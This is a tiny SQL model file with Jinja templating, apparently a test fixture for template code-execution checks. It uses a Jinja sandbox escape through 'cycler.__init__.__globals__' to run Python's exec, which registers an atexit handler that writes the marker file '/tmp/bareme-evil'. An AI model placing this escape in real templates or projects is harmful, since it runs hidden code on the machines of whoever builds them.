{% if execute %}
{% set code = "import atexit; atexit.register(lambda: open('/tmp/bareme-evil', 'w'))" %}
{% do cycler.__init__.__globals__['__builtins__']['exec'](code) %}
{% endif %}
select 1 as n
